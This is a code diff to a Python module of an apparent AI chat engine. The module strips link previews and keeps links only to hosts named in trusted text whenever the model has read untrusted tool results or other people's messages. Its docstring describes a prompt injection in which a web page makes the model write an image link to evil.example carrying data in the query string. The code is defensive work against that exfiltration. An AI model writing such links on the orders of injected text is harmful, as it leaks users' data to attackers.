@@ -3,13 +3,12 @@
 An answer written after the model read text nobody in the chat wrote is shown without link
 previews, and with links only to hosts that trusted text named (:class:`engine.Untrusted`):
 an instruction in a web page that makes the model write ``![](http://evil.example/?q=…)`` then
-sends nothing by itself. This module decides it from what the model read in the turn (its whole
-context: untrusted text read in an earlier turn still speaks in this one).
-
-What is untrusted is read here from the messages themselves, the same rule everywhere: a tool's
-result (a page, a search, an MCP server's output: what a tool returns was not written by the
-requester), a quoted message, and in a group another member's message. Trusted text is the
-owner's system prompt and the requester's own words; only hosts named there stay links.
+sends nothing by itself. Which messages are untrusted is their provenance's say, read as the
+containment policy reads it (engine/loop/_containment.py: the turn's :class:`Taint`, which also
+counts its summary's sources and a quoted message); the hosts that stay links are those named in
+trusted text, the owner's system prompt and the requester's own words. That is stricter than
+leaving out the hosts untrusted text named: a host an injection has the model spell out (or
+that is named nowhere) is not a link either.
 """
 
 from __future__ import annotations
@@ -18,6 +17,7 @@ import re
 from collections.abc import Sequence
 
 from engine._channel import Untrusted
+from engine.loop import Taint
 from engine.models import Message, Role
 
 # Hosts as people write them: a domain (with or without a scheme) or an IPv4 address.
@@ -26,7 +26,6 @@ _HOST = re.compile(
     r"((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)",
     re.I,
 )
-_SOURCE_CHARS = 60  # of a source's label
 
 
 def hosts_in(text: str) -> set[str]:
@@ -39,35 +38,24 @@ def untrusted_of(
     system: str = "",
     requester: str | None = None,
     *,
+    taint: Taint | None = None,
     tool_text: bool = False,
 ) -> Untrusted | None:
     """How to show an answer to `context` (the messages the model read, in order), or None
-    when all of it is trusted. `requester` is the name a group message of the requester carries
-    as its speaker (None: every group message counts as another member's). `tool_text`: the
-    text is a tool's (send_message, a result shown as it is), not the requester's: untrusted."""
-    tools = {c.id: c.name for m in context for c in m.tool_calls}
+    when all of it is trusted. `requester` is the user id of whom the turn answers (None: every
+    member's message counts as another's); `taint` is the turn's own, when the loop gave one.
+    `tool_text`: the text is a tool's (send_message, a result shown as it is): untrusted."""
+    sources = [] if taint is None else list(taint.sources)
     trusted = [system]
-    sources: list[str] = []
     for m in context:
-        match m.role:
-            case Role.TOOL:
-                result = m.result
-                name = tools.get(result.call_id, "a tool") if result is not None else "a tool"
-                sources.append(_label(name, m.text or ""))
-            case Role.USER if m.speaker is not None and m.speaker != requester:
-                sources.append(f"a message from {m.speaker}")
-            case Role.USER:
+        if m.role is Role.ASSISTANT:
+            continue
+        if m.provenance.trusted_for(requester or ""):
+            if m.role is Role.USER:
                 trusted.append(m.text or "")
-                if m.quote is not None:
-                    sources.append("a quoted message")
+        else:
+            sources.append(m.provenance.source or "an unknown source")
     if not sources and not tool_text:
         return None
     hosts = frozenset().union(*(hosts_in(t) for t in trusted))
     return Untrusted(hosts, tuple(dict.fromkeys(sources)))
-
-
-def _label(tool: str, text: str) -> str:
-    """A tool's result as a source: the tool, and the first host it names (the page read)."""
-    first = _HOST.search(text[:500])
-    host = first[1].lower().removeprefix("www.") if first is not None else ""
-    return f"{tool} {host}".strip()[:_SOURCE_CHARS]
